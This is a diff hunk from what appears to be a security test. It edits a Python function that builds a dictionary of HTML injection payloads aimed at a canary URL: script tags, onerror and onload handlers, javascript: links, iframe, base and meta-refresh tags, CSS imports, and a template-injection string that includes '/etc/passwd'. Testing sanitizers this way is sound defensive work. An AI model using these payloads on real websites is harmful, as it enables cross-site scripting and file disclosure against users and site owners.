@@ -49,10 +49,10 @@ def attacks(canary: str) -> dict[str, str]:
     call = f"document.title='owned';fetch('{canary}/fetch')"
     return {
         "script": f"<script>{call}</script><script src='{canary}/script.js'></script>",
-        "handler": f"<img src='{canary}/img.png' onerror=\"{call}\"><svg onload=\"{call}\"><body onload=\"{call}\">",
+        "handler": f'<img src=\'{canary}/img.png\' onerror="{call}"><svg onload="{call}"><body onload="{call}">',
         "closing": f"</div></section></main></style></title></textarea><script>{call}</script><!-- ",
         "style": f"</style><style>@import url('{canary}/css');body{{background:url('{canary}/background')}}</style>",
-        "link": f"<a href=\"javascript:{call}\" autofocus onfocus=\"{call}\">press</a> javascript:{call}",
+        "link": f'<a href="javascript:{call}" autofocus onfocus="{call}">press</a> javascript:{call}',
         "frame": f"<iframe src='{canary}/frame'></iframe><object data='{canary}/object'></object><base href='{canary}'>",
         "refresh": f"<meta http-equiv=refresh content='0;url={canary}/refresh'><form action='{canary}/form'><input>",
         "template": "{{ 7*7 }}{% include '/etc/passwd' %}${7*7}#{7*7}",
